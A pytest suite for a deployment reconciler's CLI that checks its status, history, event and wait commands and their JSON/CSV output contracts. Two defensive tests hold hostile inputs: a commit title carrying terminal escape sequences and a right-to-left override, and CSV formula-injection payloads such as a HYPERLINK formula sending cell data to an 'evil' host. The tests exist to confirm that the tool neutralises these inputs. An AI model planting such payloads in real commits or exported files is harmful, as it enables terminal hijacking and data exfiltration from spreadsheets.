"""What the answering commands say of a site with one environment of each kind."""

from __future__ import annotations

import csv
import io
import json
import re
import signal
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from reconciler.cli import sheet
from reconciler.cli.story import what_to_do
from reconciler.errors import Reason
from reconciler.model import Action, Attempt, Declared, EnvironmentName
from reconciler.settings import load
from reconciler.wiring import open_store
from tests.cliworld import CliWorld, start
from tests.factories import NOON, sha256

EVIL = "Bump \x1b]0;owned\x07\x1b[31m red\u202e"


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> CliWorld:
    """dev: invalid; prod: pushed past the approval; self: approved by its author; staging: ready."""
    world = CliWorld(tmp_path_factory.mktemp("answers"))
    site = world.site
    for run in (101, 102):
        site.publish(run)
    for name in ("dev", "prod", "self", "staging"):
        site.declare(name, 101)
    assert world("reconcile").exit_code == 0
    site.declare("staging", 102)
    site.push("prod", 102)
    site.git.switch("main").branch("evil").write("environments/self.yaml", site.declaration("self", 102))
    site.git.commit(site.engineer, "x", sign=True).merge("evil", signer=site.engineer, message=EVIL).push()
    site.push("dev", 101, path="relative")
    assert world("reconcile").exit_code == 3
    return world


def test_get_shows_live_and_declared_runs_side_by_side(world: CliWorld) -> None:
    lines = world("get").stdout.splitlines()
    assert lines[0].split() == ["NAME", "RUN", "REVISION", "SYNC", "HEALTH", "READY", "AGE", "MESSAGE"]
    rows = {line.split()[0]: line for line in lines[1:]}
    assert sorted(rows) == list(rows) == ["dev", "prod", "self", "staging"]
    assert rows["prod"].split()[1:4] == ["101", "→", "102"]
    assert "Held" in rows["prod"]
    assert rows["prod"].endswith("moved the branch forward to it")
    assert rows["staging"].split()[1] == "102"
    assert "True" in rows["staging"]


def test_wide_adds_what_was_let_in_by_whom_and_where_it_goes(world: CliWorld) -> None:
    header, row = world("get", "staging", "-o", "wide").stdout.splitlines()
    for title in ("SHA256", "LIVE APPROVED BY", "LIVE REQUEST", "REASON", "TARGET"):
        assert title in header
    assert "reviewer@example.com" in row
    assert str(world.site.live / "staging") in row


def test_name_output_is_one_name_per_line(world: CliWorld) -> None:
    assert world("get", "-o", "name").stdout == "dev\nprod\nself\nstaging\n"


def test_yaml_and_json_are_the_same_document(world: CliWorld) -> None:
    assert yaml.safe_load(world("get", "-o", "yaml").stdout) == world.json("get")


def test_a_misspelt_environment_is_a_usage_error_with_the_closest_name(world: CliWorld) -> None:
    result = world("why", "stagng")
    assert result.exit_code == 2
    assert result.stdout == ""
    assert result.stderr == "error: no environment is called 'stagng'\nhint: did you mean staging?\n"


def test_why_leads_with_the_answer_the_cause_and_the_way_out(world: CliWorld) -> None:
    result = world("why", "prod")
    assert result.exit_code == 3
    lines = result.stdout.splitlines()
    assert lines[0] == "prod is Held by the gate approval: ApprovalMissing; run 101 stays live"
    assert lines[2].startswith("  Because      commit ")
    assert lines[3].startswith("  What to do   revert the commit")
    assert any(line.split() == ["✗", "approval", "HELD", "ApprovalMissing"] for line in lines)
    assert any(line.split() == ["·", "target", "not", "reached"] for line in lines)
    assert "unapproved so far: artifact.run_id, artifact.sha256" in result.stdout


def test_why_tells_apart_who_let_in_what_is_live_from_what_is_held(tmp_path: Path) -> None:
    world = CliWorld(tmp_path)
    world.site.publish(101)
    world.site.publish(102)
    world.site.declare("prod", 101)
    world.site.declare("prod", 102)
    assert world("reconcile").exit_code == 0
    ready = world("why", "prod").stdout
    assert re.search(r"^  Approved by +reviewer@example.com \(", ready, re.MULTILINE)
    assert "let in by" not in ready
    world.site.push("prod", 101)
    assert world("reconcile").exit_code == 3
    held = world("why", "prod").stdout
    assert re.search(r"^  Live .*\n.*release 102-.*\n +let in by reviewer@example.com \(", held, re.MULTILINE)
    assert "Approved by" not in held


def test_why_names_the_rows_and_shortens_digests_below_the_coordinates(world: CliWorld) -> None:
    above, _, gates = world("why", "staging").stdout.partition("Gates")
    assert any(line.startswith("  Since ") for line in above.splitlines())
    assert len(re.findall(r"\b[0-9a-f]{64}\b", above)) == 2
    assert re.search(r"sha256 [0-9a-f]{12} over", gates)
    assert not re.search(r"[0-9a-f]{41}", gates)


@pytest.mark.parametrize(
    "reason", [Reason.DIGEST_MISMATCH, Reason.ARTIFACT_UNSAFE, Reason.ARTIFACT_TOO_LARGE, Reason.RUN_NOT_FOUND]
)
def test_only_what_was_given_up_says_how_it_is_tried_again(world: CliWorld, reason: Reason) -> None:
    with closing(open_store(load(world.site.settings_file))) as store:
        status = replace(store.statuses()[EnvironmentName("prod")], reason=reason, hint="look at it")
    told = what_to_do(status)
    assert told.startswith("look at it")
    given_up = reason is not Reason.RUN_NOT_FOUND
    again = "; it is not tried again until the declaration changes or `reconciler retry prod`"
    assert told.endswith(again) is given_up


def test_why_of_a_ready_environment_shows_the_evidence_and_ends_with_success(world: CliWorld) -> None:
    result = world("why", "staging")
    assert result.exit_code == 0
    assert result.stdout.startswith("staging is Ready: what is declared is live and whole; run 102 is live\n")
    assert "approved by reviewer@example.com" in result.stdout
    assert "run 102 of acme/shop: build.yml, push on main" in result.stdout


def test_nothing_that_a_terminal_obeys_comes_from_a_commit_title(world: CliWorld) -> None:
    for command in (("why", "self"), ("describe", "self"), ("get",), ("history", "--all", "-o", "wide"), ("events",)):
        out = world(*command).stdout
        assert not [c for c in out if not c.isprintable() and c != "\n"], command
    assert r"Bump \x1b]0;owned\x07\x1b[31m red\u202e" in world("why", "self").stdout
    assert "\x1b" not in world("why", "self", "-o", "json").stdout
    assert "\u202e" not in world("why", "self", "-o", "yaml").stdout


def test_describe_has_the_last_attempts_and_events(world: CliWorld) -> None:
    out = world("describe", "prod").stdout
    assert "Last attempts" in out
    assert "refused" in out
    assert "succeeded" in out
    assert "Last events" in out


def test_history_is_newest_first_and_bounded(world: CliWorld) -> None:
    items = world.json("history", "prod")["items"]
    assert [(item["outcome"], item["reason"]) for item in items] == [
        ("refused", "ApprovalMissing"),
        ("succeeded", None),
    ]
    every = world.json("history", "--all", "--limit", "3")["items"]
    assert [item["id"] for item in every] == sorted((item["id"] for item in every), reverse=True)
    assert len(every) == 3


def test_history_as_csv_has_the_columns_that_are_documented_and_one_row_for_each_attempt(world: CliWorld) -> None:
    out = world("history", "--all", "-o", "csv").stdout_bytes.decode()
    header, *found = csv.reader(io.StringIO(out, newline=""))
    described = (Path(__file__).parents[2] / "docs" / "cli.md").read_text().replace("\n", " ")
    assert ", ".join(f"`{name}`" for name in header) in described
    assert all(line.endswith("\r") for line in out.split("\n")[:-1])
    items = world.json("history", "--all")["items"]
    assert [row[0] for row in found] == [str(item["id"]) for item in items]
    row = dict(zip(header, next(row for row in found if row[3] == "staging" and row[6] == "102"), strict=True))
    item = next(item for item in items if str(item["id"]) == row["id"])
    assert (row["started"], row["finished"]) == (item["started"], item["finished"])
    assert (row["commit"], row["sha256"]) == (item["declared"]["commit"], item["declared"]["sha256"])
    assert (row["action"], row["outcome"], row["reason"]) == ("deploy", "succeeded", "")
    assert (row["before"], row["request"], row["approvers"]) == (
        item["before"],
        item["request"],
        "reviewer@example.com",
    )
    assert (row["plan"], row["token"]) == (item["plan"] or "", str(item["token"]))


def test_only_a_table_of_a_history_ends_early_and_says_so(tmp_path: Path) -> None:
    world = CliWorld(tmp_path)
    for run in range(101, 123):
        world.site.publish(run)
        world.site.declare("dev", run, approval="none")
        world("reconcile")
    for output in ("json", "csv", "name"):
        assert "more" not in world("history", "--all", "-o", output).stderr
    assert len(world.json("history", "--all")["items"]) == 22
    assert world("history", "dev", "-o", "csv").stdout.count("\n") == 23
    table = world("history", "--all")
    assert (len(table.stdout.splitlines()), table.stderr) == (
        21,
        "the newest 20; there are more: --limit N shows them\n",
    )
    assert world("history", "--all", "--limit", "22").stderr == ""
    assert len(world("history", "dev", "--limit", "3").stdout.splitlines()) == 4


def test_a_table_of_one_environment_does_not_name_it_in_each_row(world: CliWorld) -> None:
    for command in ("history", "events"):
        assert "ENVIRONMENT" not in world(command, "prod").stdout.splitlines()[0].split()
        assert "ENVIRONMENT" in world(command, "prod", "-o", "wide").stdout.splitlines()[0].split()
    assert "ENVIRONMENT" in world("events").stdout.splitlines()[0].split()
    assert "ENVIRONMENT" in world("history", "--all").stdout.splitlines()[0].split()


def test_wide_tells_the_bytes_that_run_from_those_that_are_declared(world: CliWorld) -> None:
    title, *rows = world("get", "-o", "wide").stdout.splitlines()
    assert "LIVE SHA256" in title
    runs, declared = (sha256(world.site.artifact(run)) for run in (101, 102))
    assert f"{runs} → {declared}" in next(row for row in rows if row.startswith("prod"))
    (ready,) = [row for row in rows if row.startswith("staging")]
    assert (ready.count(declared), runs in ready) == (1, False)


def test_history_as_csv_of_one_environment_is_bounded_as_any(world: CliWorld) -> None:
    rows = list(csv.DictReader(io.StringIO(world("history", "prod", "-o", "csv", "--limit", "1").stdout, newline="")))
    assert [(row["environment"], row["outcome"], row["reason"]) for row in rows] == [
        ("prod", "refused", "ApprovalMissing")
    ]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_no_cell_of_a_csv_is_a_formula(first: str) -> None:
    text = f'{first}HYPERLINK("http://evil/?"&A1),"x"\r\n=1'
    attempt = Attempt(
        EnvironmentName("prod"),
        Action.DEPLOY,
        Declared(None),
        None,
        NOON,
        request=text,
        approvers=(text, "a"),
        message=text,
    )
    _, row = csv.DictReader(io.StringIO(sheet.attempts([attempt, attempt]), newline=""))
    for name in ("request", "approvers", "message"):
        assert row[name].startswith("'")
        assert row[name].isprintable()
        assert 'HYPERLINK("http://evil/?"&A1),"x"' in row[name]
    assert row["environment"] == "prod"


def test_nothing_that_a_terminal_obeys_is_in_a_csv(world: CliWorld) -> None:
    out = world("history", "self", "-o", "csv").stdout
    assert not [c for c in out if not c.isprintable() and c not in "\r\n"]


def test_history_wants_one_environment_or_all_said_outright(world: CliWorld) -> None:
    assert world("history").exit_code == 2
    assert world("history", "prod", "--all").exit_code == 2


def test_events_are_oldest_first(world: CliWorld) -> None:
    items = world.json("events", "prod")["items"]
    assert [item["sync"] for item in items] == ["Synced", "Held"]
    assert world("events", "nobody").exit_code == 2


@pytest.mark.parametrize(
    ("condition", "code"),
    [
        pytest.param("Ready", 0, id="a ready environment is Ready"),
        pytest.param("run=102", 0, id="its live run is there"),
        pytest.param("run=101", 5, id="a run that went away is not there"),
        pytest.param("held", 5, id="it is not Held, in any spelling"),
        pytest.param("Purple", 2, id="there is no such condition"),
    ],
)
def test_wait(world: CliWorld, condition: str, code: int) -> None:
    assert world("wait", "staging", "--for", condition, "--timeout", "100ms").exit_code == code


def test_a_wait_in_vain_says_why(world: CliWorld) -> None:
    result = world("wait", "prod", "nobody", "--timeout", "10ms")
    assert result.exit_code == 5
    assert "error: prod: not Ready after 10ms: Held, Healthy; ApprovalMissing: commit" in result.stderr
    assert "hint: revert the commit" in result.stderr
    assert "error: nobody: not Ready after 10ms: no such environment was seen" in result.stderr


def test_a_timeout_that_is_none_is_a_usage_error(world: CliWorld) -> None:
    assert world("wait", "prod", "--timeout", "soon").exit_code == 2


def test_an_answer_without_a_daemon_says_so_beside_the_data(world: CliWorld) -> None:
    assert "note: no reconciler runs for" in world("get").stderr


def test_before_the_first_look_nothing_is_known_and_nothing_is_made(tmp_path: Path) -> None:
    world = CliWorld(tmp_path)
    for command in (["get"], ["why", "prod"], ["history", "--all"], ["events"], ["retry", "prod"], ["audit", "export"]):
        result = world(*command)
        assert result.exit_code == 8, command
        assert result.stderr.startswith("error: nothing is known yet")
    assert not (tmp_path / "state").exists()


def test_watching_prints_what_changes_and_nothing_else_until_interrupted(tmp_path: Path) -> None:
    world = CliWorld(tmp_path)
    world.site.publish(101)
    for name in ("dev", "prod"):
        world.site.declare(name, 101, approval="none")
    world("reconcile")
    with start("-c", str(world.site.settings_file), "get", "-w", "-o", "json") as process:
        assert process.stdout is not None
        seen = [json.loads(process.stdout.readline()) for _ in range(2)]
        for name in ("dev", "prod"):
            world("suspend", name, "--reason", "tests")
            seen.append(json.loads(process.stdout.readline()))
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=20)
    assert (process.returncode, out, err) == (130, "", "")
    assert [item["name"] for item in seen] == ["dev", "prod", "dev", "prod"]
    assert [item["suspension"] is None for item in seen] == [True, True, False, False]


def test_watching_events_prints_only_new_ones_under_one_title(tmp_path: Path) -> None:
    world = CliWorld(tmp_path)
    world.site.publish(101)
    world.site.declare("dev", 101, approval="none")
    world("reconcile")
    with start("-c", str(world.site.settings_file), "events", "-w") as process:
        assert process.stdout is not None
        assert process.stdout.readline().startswith("AT ")
        assert "Synced" in process.stdout.readline()
        world("suspend", "dev", "--reason", "tests")
        world("reconcile")
        assert "Suspended" in process.stdout.readline()
        process.send_signal(signal.SIGINT)
        process.communicate(timeout=20)


# --- the contract with programs ------------------------------------------------------------------

GATE = {"gate", "verdict", "reason", "message", "evidence", "hint", "notBefore"}
DECLARED = {"commit", "runId", "sha256"}
LIVE = {"release", "runId", "sha256", "since", "request", "approvers"}
STATUS = {"name", "sync", "health", "ready", "reason", "message", "hint", "since", "declared", "live"}
ENVIRONMENT = STATUS | {"suspension", "gates", "drift", "rollback"}
ROLLBACK = {"release", "ready", "why"}
ATTEMPT = {"id", "environment", "action", "declared", "before", "request", "approvers", "token", "plan"}
ATTEMPT |= {"started", "finished", "outcome", "reason", "message", "gates", "output", "automatic"}
EVENT = {"id", "at", "environment", "sync", "health", "reason", "message", "live"}


def keys(document: Any) -> set[str]:
    return set(document)


def heads(document: Any, kind: str) -> Any:
    assert (document.pop("apiVersion"), document.pop("kind")) == ("reconciler/v1", kind)
    return document


def test_the_keys_of_an_environment_are_a_contract(world: CliWorld) -> None:
    listed = heads(world.json("get", "staging"), "EnvironmentList")
    assert keys(listed) == {"items"}
    (item,) = listed["items"]
    assert keys(item) == ENVIRONMENT
    assert keys(item["declared"]) == DECLARED
    assert keys(item["live"]) == LIVE
    assert item["live"]["approvers"] == ["reviewer@example.com"]
    assert all(keys(gate) == GATE for gate in item["gates"])
    assert item["since"].endswith("Z")
    assert isinstance(item["declared"]["runId"], int)


def test_the_keys_of_an_explanation_are_a_contract(world: CliWorld) -> None:
    told = heads(world.json("why", "prod"), "Explanation")
    assert keys(told) == ENVIRONMENT | {"summary"}
    assert keys(told["live"]) == LIVE


def test_the_keys_of_a_description_are_a_contract(world: CliWorld) -> None:
    told = heads(world.json("describe", "prod"), "Description")
    assert keys(told) == {"environment", "attempts", "events"}
    assert keys(told["environment"]) == ENVIRONMENT
    assert keys(told["attempts"][0]) == ATTEMPT
    assert keys(told["events"][0]) == EVENT


def test_the_keys_of_attempts_and_events_are_a_contract(world: CliWorld) -> None:
    attempts = heads(world.json("history", "--all"), "AttemptList")
    assert keys(attempts["items"][0]) == ATTEMPT
    events = heads(world.json("events"), "EventList")
    assert keys(events["items"][0]) == EVENT


def test_the_keys_of_a_difference_are_a_contract(world: CliWorld) -> None:
    (world.site.live / "prod" / "current" / "lib" / "1.txt").write_text("by hand")
    found = heads(world.json("diff", "prod"), "Difference")
    assert keys(found) == {"name", "differs", "target", "declared", "live", "drift"}
    assert keys(found["live"]) == LIVE - {"request", "approvers"}
    assert keys(found["drift"][0]) == {"path", "kind", "expected", "found"}


def test_each_key_of_a_document_is_in_the_guide(world: CliWorld) -> None:
    guide = (Path(__file__).parents[2] / "docs" / "cli.md").read_text().partition("## For programs")[2]
    answers = (("get",), ("why", "prod"), ("describe", "prod"), ("history", "--all"), ("events",), ("diff", "prod"))

    def found(document: Any) -> set[str]:
        if isinstance(document, list):
            return set().union(*map(found, document))
        return set(document).union(*map(found, document.values())) if isinstance(document, dict) else set()

    told = set().union(*(found(world.json(*command)) for command in (*answers, ("check",))))
    assert len(told) > 40
    assert [key for key in sorted(told - {"apiVersion"}) if f"`{key}`" not in guide] == []


def test_the_keys_of_checks_are_a_contract(world: CliWorld) -> None:
    found = heads(world.json("check"), "CheckList")
    assert keys(found["items"][0]) == {"name", "ok", "message", "hint"}
